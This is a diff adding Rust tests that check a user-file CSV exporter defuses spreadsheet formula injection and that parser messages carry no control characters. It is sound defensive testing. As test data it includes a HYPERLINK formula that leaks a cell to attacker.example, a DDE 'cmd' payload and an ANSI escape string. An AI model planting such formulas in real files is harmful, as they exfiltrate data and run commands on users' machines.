@@ -444,3 +444,135 @@ mod props {
         }
     }
 }
+
+/// The cells of one CSV line (no line breaks inside), unquoted: a parser
+/// of its own, so the test does not trust the code it tests. Says for each
+/// cell whether it was quoted.
+fn cells(line: &str) -> Vec<(String, bool)> {
+    let mut cells = Vec::new();
+    let mut chars = line.chars().peekable();
+    loop {
+        let mut cell = String::new();
+        let quoted = chars.peek() == Some(&'"');
+        if quoted {
+            chars.next();
+            loop {
+                match chars.next() {
+                    Some('"') if chars.peek() == Some(&'"') => {
+                        chars.next();
+                        cell.push('"');
+                    }
+                    Some('"') => break,
+                    Some(c) => cell.push(c),
+                    None => panic!("unclosed quote in {line:?}"),
+                }
+            }
+        }
+        while let Some(&c) = chars.peek() {
+            if c == ',' {
+                break;
+            }
+            assert!(!quoted, "text after a closing quote in {line:?}");
+            cell.push(c);
+            chars.next();
+        }
+        cells.push((cell, quoted));
+        if chars.next().is_none() {
+            return cells;
+        }
+    }
+}
+
+#[test]
+fn exported_cells_a_spreadsheet_would_run_are_defused_and_read_back() {
+    let mut file = UsersFile::new();
+    let risky = [
+        "=HYPERLINK(\"http://attacker.example/?p=\"&D2,\"Click\")",
+        "+1+2",
+        "-2+3",
+        "@SUM(A1)",
+        "\tTab",
+        "'=already quoted",
+        "fine",
+    ];
+    for (i, display) in risky.iter().enumerate() {
+        let mut user = User::new(format!("u{i}"));
+        user.set_display_name(Some((*display).to_owned()));
+        user.set_email_address(Some(format!("u{i}@example.com")));
+        user.set_groups(vec![format!("-group{i}"), "Ops".into()]);
+        file.users.push(user);
+    }
+    file.users.push(User::new("=cmd|' /C calc'!A0"));
+    let out = to_csv(&file, None);
+    for line in out.split("\r\n").skip(1).filter(|l| !l.is_empty()) {
+        for (cell, quoted) in cells(line) {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} would run in a spreadsheet"
+            );
+            if cell.starts_with('\'') || cell.contains([',', ';']) {
+                assert!(quoted, "{cell:?} is not quoted");
+            }
+        }
+    }
+    assert!(out.contains("\"'=HYPERLINK(\"\"http://attacker.example/?p=\"\"&D2,\"\"Click\"\")\""));
+    assert!(out.contains("\"''=already quoted\""));
+    assert!(out.contains(",fine,"));
+    // Reading the export back takes the `'` off: the same users.
+    let back = parse_csv(&out).unwrap();
+    assert!(back.bad_rows.is_empty(), "{:?}", back.bad_rows);
+    for (row, user) in back.rows.iter().zip(&file.users) {
+        assert_eq!(row.name, user.user_name);
+        let display = user.display_name.as_deref().map(str::trim);
+        assert_eq!(row.display_name.as_deref(), display);
+        assert_eq!(row.groups.as_ref(), Some(&user.groups));
+    }
+    assert_eq!(csv::defuse("=1"), "'=1");
+    assert_eq!(csv::defuse("'@x"), "''@x");
+    assert_eq!(csv::defuse("a=1"), "a=1");
+    assert_eq!(csv::defuse("'plain"), "'plain");
+}
+
+#[test]
+fn csv_messages_never_carry_control_characters() {
+    let evil = "evil\u{1b}[2J\u{7}";
+    let e = parse_csv(&format!("Name,{evil}\na,b\n")).unwrap_err();
+    let users = parse_csv(&format!(
+        "Name,Email\n\"x{evil}\",\n{evil},x@example.com\nb,\"{evil}@x\"\nb2,b@example.com\nB2,c@example.com\n"
+    ))
+    .unwrap();
+    let mut shown = vec![e.to_string()];
+    shown.extend(users.bad_rows.iter().map(|r| r.to_string()));
+    let file = UsersFile::new();
+    shown.extend(preview(&file, &users).lines());
+    assert!(users.bad_rows.len() >= 3, "{:?}", users.bad_rows);
+    for text in shown {
+        assert!(
+            !text.chars().any(proget_users_core::text::is_unsafe),
+            "{text:?}"
+        );
+    }
+}
+
+#[test]
+fn lone_carriage_returns_and_unclosed_quotes_are_found_on_their_lines() {
+    let users = parse_csv("Name,DisplayName\ra,A\r\rb\rc,\"two\rlines\"\r,x\r").unwrap();
+    assert_eq!(
+        users.rows.iter().map(|r| r.line).collect::<Vec<_>>(),
+        [2, 5]
+    );
+    assert_eq!(users.rows[1].display_name.as_deref(), Some("two\nlines"));
+    assert_eq!(
+        users.bad_rows.iter().map(|r| r.line).collect::<Vec<_>>(),
+        [4, 7]
+    );
+    assert_eq!(
+        parse_csv("Name,DisplayName\r\na,\"ok\r\nstill\"\r\nb,x\r\n\r\nc,\"never\r\nclosed\r\n")
+            .unwrap_err(),
+        CsvError::UnterminatedQuote { line: 6 }
+    );
+    assert_eq!(
+        parse_csv("sep=;\nName;DisplayName\na;\"open").unwrap_err(),
+        CsvError::UnterminatedQuote { line: 3 }
+    );
+}
